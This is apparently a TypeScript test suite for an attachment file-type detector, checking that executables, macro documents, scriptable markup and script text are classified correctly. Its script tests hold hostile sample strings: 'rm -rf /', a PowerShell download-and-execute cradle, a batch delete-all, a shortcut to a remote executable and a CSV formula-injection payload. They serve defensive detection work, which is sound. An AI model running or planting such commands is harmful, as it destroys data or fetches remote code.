import assert from "node:assert/strict";
import { test } from "node:test";
import {
	activePdf,
	docmWithMacro,
	docxWithExternals,
	EICAR,
	ELF_HEADER,
	HTML_PAGE,
	jpegWithGps,
	nestedEicarZip,
	PE_HEADER,
	pngImage,
	rawZip,
	SVG_WITH_SCRIPT,
} from "../../../../tests/helpers/attachment-corpus.ts";
import { detectType } from "./detect-type.ts";

async function category(content: Buffer | string): Promise<string> {
	return (await detectType(Buffer.isBuffer(content) ? content : Buffer.from(content))).category;
}

test("executables are recognised by their headers, whatever they are called", async () => {
	assert.equal(await category(PE_HEADER), "executable");
	assert.equal(await category(ELF_HEADER), "executable");
	assert.equal(await category(Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1])), "executable");
	assert.equal(await category(EICAR), "executable");
	assert.deepEqual((await detectType(Buffer.from(EICAR))).findings, ["EICAR test signature"]);
	const jar = rawZip([
		{ name: "META-INF/MANIFEST.MF", data: Buffer.from("Main-Class: A\n") },
		{ name: "A.class", data: Buffer.from([0xca, 0xfe, 0xba, 0xbe]) },
	]);
	assert.equal(await category(jar), "executable");
});

test("documents, images and archives by content", async () => {
	assert.equal((await detectType(activePdf())).trueType, "application/pdf");
	const docm = await detectType(docmWithMacro());
	assert.equal(docm.category, "ooxml");
	assert.equal(docm.extension, "docm");
	assert.equal((await detectType(docxWithExternals())).extension, "docx");
	assert.equal((await detectType(await jpegWithGps())).trueType, "image/jpeg");
	assert.equal((await detectType(await pngImage())).trueType, "image/png");
	assert.equal(await category(nestedEicarZip()), "archive");
	assert.equal(
		await category(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0])),
		"ole",
	);
	const odt = rawZip([
		{
			name: "mimetype",
			data: Buffer.from("application/vnd.oasis.opendocument.text"),
			deflate: false,
		},
		{ name: "META-INF/manifest.xml", data: Buffer.from("<manifest/>") },
	]);
	assert.equal(await category(odt), "unknown");
});

test("markup that a browser would run is HTML or SVG, not text", async () => {
	assert.equal(await category(HTML_PAGE), "html");
	assert.equal(await category(SVG_WITH_SCRIPT), "svg");
	assert.equal(await category("Hello <script>alert(1)</script>"), "html");
	assert.equal(await category("<?xml version='1.0'?><?xml-stylesheet href='x.xsl'?><a/>"), "html");
	assert.equal(await category("<?xml version='1.0'?><data><row>1</row></data>"), "text");
});

test("scripts are recognised from their text", async () => {
	assert.equal(await category("#!/bin/sh\nrm -rf /\n"), "script");
	assert.equal(await category('Set o = CreateObject("WScript.Shell")\no.Run "calc"\n'), "script");
	assert.equal(
		await category("IEX (New-Object Net.WebClient).DownloadString('http://x')\n"),
		"script",
	);
	assert.equal(await category("@echo off\r\ndel /q *.*\r\n"), "script");
	assert.equal(await category("function f(a) {\n  var b = a + 1;\n  return b;\n}\n"), "script");
	assert.equal(await category("[InternetShortcut]\r\nURL=file://evil/share/x.exe\r\n"), "script");
	assert.equal(await category("name,total\r\nx,=cmd|' /C calc'!A0\r\n"), "script");
	assert.equal(await category("name,total\r\nx,=SUM(A1:A3)\r\ny,-5\r\n"), "text");
});

test("plain text in Japanese encodings passes as text; binary noise does not", async () => {
	const utf8 = await detectType(Buffer.from("会議の議事録です。\n次回は4月1日。\n"));
	assert.deepEqual([utf8.category, utf8.charset], ["text", "utf-8"]);
	const sjis = await detectType(Buffer.from([0x82, 0xa0, 0x82, 0xa2, 0x0a])); // "あい" in Shift_JIS
	assert.deepEqual([sjis.category, sjis.charset], ["text", "shift_jis"]);
	assert.equal((await detectType(Buffer.from('{"a": [1, 2, 3]}\n'))).trueType, "application/json");
	assert.equal(await category(Buffer.from([0x41, 0x00, 0x42, 0x01, 0xff, 0xfe, 0x80])), "unknown");
	assert.equal(
		await category("Dear all,\nthe meeting moved to Friday; see you there.\nRegards\n"),
		"text",
	);
});

test("a compound file whose root is a Windows Installer database is an executable", async () => {
	const msi = Buffer.alloc(1536);
	Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(msi, 0);
	msi.writeUInt16LE(9, 30); // 512-byte sectors
	msi.writeUInt32LE(0, 48); // directory in sector 0, i.e. at byte 512
	Buffer.from("84100c0000000000c000000000000046", "hex").copy(msi, 512 + 80);
	const installer = await detectType(msi);
	assert.deepEqual(
		[installer.category, installer.findings],
		["executable", ["Windows Installer package"]],
	);
	Buffer.from("0609020000000000c000000000000046", "hex").copy(msi, 512 + 80); // a Word 97 document
	assert.equal((await detectType(msi)).category, "ole");
});
